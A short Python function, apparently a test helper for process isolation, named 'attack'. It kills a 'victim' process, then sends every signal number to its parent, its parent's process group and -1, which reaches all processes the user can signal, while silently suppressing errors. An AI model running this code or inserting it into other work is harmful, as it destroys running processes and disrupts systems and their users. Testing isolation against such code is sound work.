import contextlib
import os
import signal


def attack(context):
    with contextlib.suppress(OSError):
        os.kill(context["victim"], signal.SIGKILL)
    if context["bare"]:
        return "stopped"
    for number in range(1, signal.NSIG):
        for target in (os.getppid(), -1, -os.getppid()):
            with contextlib.suppress(OSError):
                os.kill(target, number)
    return "stopped"
